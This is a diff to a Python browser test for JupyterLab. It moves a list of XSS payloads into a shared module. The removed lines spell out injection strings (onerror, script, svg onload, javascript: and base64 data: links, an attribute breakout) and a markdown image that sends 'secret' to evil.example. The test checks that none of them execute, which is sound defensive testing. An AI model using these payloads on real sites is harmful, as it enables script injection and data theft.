@@ -15,19 +15,9 @@ import re
 import time
 from typing import Any
 
-from .harness import JupyterLab, shot
+from hostile import HOSTILE, HOSTILE_STEM, PAYLOADS
 
-PAYLOADS = [
-    '<img src=x onerror="window.__pwned=1">',
-    "<script>window.__pwned=2</script>",
-    '<a href="javascript:window.__pwned=3">click</a>',
-    "<svg onload=window.__pwned=4></svg>",
-    "[x](javascript:window.__pwned=5)",
-    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD02PC9zY3JpcHQ+)",
-    "![tracker](https://evil.example/?q=secret)",
-]
-HOSTILE = "Hostile:\n\n" + "\n\n".join(PAYLOADS)
-HOSTILE_STEM = '"><img src=x onerror=window.__pwned=7>'  # breaks out of an attribute and of text
+from .harness import JupyterLab, shot
 
 SETUP = f"""\
 import os
@@ -108,7 +98,7 @@ def test_hostile_answers_and_output_names_never_run(lab: JupyterLab, browser_pag
 
     # Click everything of the payloads that looks like a link: it is text, and nothing runs.
     outputs = page.locator(".jp-OutputArea")
-    for label in ("click", "[x](javascript:window.__pwned=5)", "[data](data:text/html"):
+    for label in ("click", PAYLOADS[4], PAYLOADS[5].split(";")[0]):  # a javascript: and a data:text/html link
         found = outputs.get_by_text(label, exact=False)
         assert found.count() >= len(TEXT_OUTPUTS), label
         for i in range(found.count()):
